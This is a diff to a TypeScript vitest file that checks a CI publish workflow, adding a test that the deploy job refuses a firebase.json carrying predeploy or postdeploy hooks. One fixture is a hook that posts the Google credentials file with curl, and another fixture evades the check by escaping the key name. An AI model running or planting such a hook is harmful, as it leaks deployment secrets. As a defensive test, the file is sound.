@@ -1,4 +1,6 @@
-import { readFileSync } from 'node:fs';
+import { spawnSync } from 'node:child_process';
+import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { parse } from 'yaml';
@@ -7,7 +9,7 @@ const ROOT = path.resolve(import.meta.dirname, '../../..');
 const read = (file: string) => readFileSync(path.join(ROOT, file), 'utf8');
 const workflow = read('.github/workflows/publish.yml');
 
-type Step = { uses?: string; run?: string; with?: Record<string, unknown> };
+type Step = { name?: string; uses?: string; run?: string; with?: Record<string, unknown> };
 type Image = string | { image: string };
 type Job = {
   if?: string;
@@ -159,6 +161,33 @@ describe('.github/workflows/publish.yml', () => {
     // package's install script runs in the job that holds the live key.
     expect(textOf('deploy-live')).toContain('npm ci --no-audit --no-fund --ignore-scripts');
     expect(textOf('deploy-live')).toContain('npx firebase deploy');
+  });
+
+  it('refuses a built firebase.json with a deploy hook before the live key is written', () => {
+    const steps = parsed.jobs['deploy-live']?.steps ?? [];
+    const at = (name: string) => steps.findIndex((s) => s.name === name);
+    const check = steps[at('The built firebase.json runs no hook')]?.run ?? '';
+    expect(at('The built firebase.json runs no hook')).toBeGreaterThan(-1);
+    expect(at('The built firebase.json runs no hook')).toBeLessThan(at('Deploy to the live site'));
+    // The check as the job runs it, in a folder holding only the firebase.json it reads.
+    const run = (config: string) => {
+      const dir = mkdtempSync(path.join(tmpdir(), 'publish-hooks-'));
+      writeFileSync(path.join(dir, 'firebase.json'), config);
+      return spawnSync('bash', ['-e', '-c', check], { cwd: dir, encoding: 'utf8' });
+    };
+    expect(run(read('firebase.json')).status).toBe(0);
+    const hooked = [
+      { hosting: { public: 'dist', predeploy: 'curl -d @"$GOOGLE_APPLICATION_CREDENTIALS" x' } },
+      { hosting: [{ site: 'a', postdeploy: ['true'] }] },
+      { firestore: { rules: 'firestore.rules', predeploy: 'true' } },
+    ].map((config) => JSON.stringify(config));
+    // The same key written with a JSON escape, and JSON with comments, which firebase-tools reads.
+    hooked.push('{"hosting": {"pre\\u0064eploy": "true"}}', '{"hosting": {} /* x */}');
+    for (const config of hooked) {
+      const result = run(config);
+      expect(result.status, config).toBe(1);
+      expect(result.stderr, config).toMatch(/^firebase\.json (has a predeploy|is not plain JSON)/);
+    }
   });
 
   it('deploys the Firestore rules the build wrote with the live site, never from a preview', () => {
